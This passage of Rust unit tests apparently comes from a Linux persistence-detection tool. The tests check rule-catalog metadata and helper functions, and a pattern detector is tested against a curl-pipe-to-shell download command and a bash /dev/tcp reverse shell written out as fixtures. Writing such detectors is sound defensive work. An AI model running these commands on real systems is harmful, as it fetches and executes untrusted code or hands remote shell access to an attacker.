
    #[test]
    fn catalog_ids_are_unique_and_documented() {
        let mut ids: Vec<&str> = CATALOG.iter().map(|r| r.id).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), CATALOG.len());
        for r in CATALOG {
            assert!(!r.mitre.is_empty() && r.doc.contains("FP:"), "{}", r.id);
        }
    }

    #[test]
    fn helpers() {
        assert!(names_match("ssh.service", "sshd"));
        assert!(names_match("nginx.service", "nginx"));
        assert!(names_match("systemd-journald.service", "systemd-journald"));
        assert!(!names_match("python.service", "log"));
        assert!(unusual_location("/var/log/log").is_some());
        assert!(unusual_location("/home/a/.cache/x").is_some());
        assert!(unusual_location("/usr/bin/ls").is_none());
        assert_eq!(span_seconds("5min"), Some(300));
        assert_eq!(span_seconds("1h 5min"), Some(3900));
        assert_eq!(span_seconds("daily"), None);
        assert!(hook_line_pattern("curl -fsSL http://x/a.sh | sh").is_some());
        assert!(hook_line_pattern("/bin/bash -c 'exec 5<>/dev/tcp/1.2.3.4/4444'").is_some());
        assert!(hook_line_pattern("/bin/sh -c 'echo hi'").is_none());
        assert!(
            hook_line_pattern(
                "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"
            )
            .is_none()
        );
        assert_eq!(
            segment_programs("test -e /run/x || SERVICE_MODE=1 /usr/lib/e2scrub_all_cron"),
            vec!["/usr/lib/e2scrub_all_cron"]
        );
    }
}
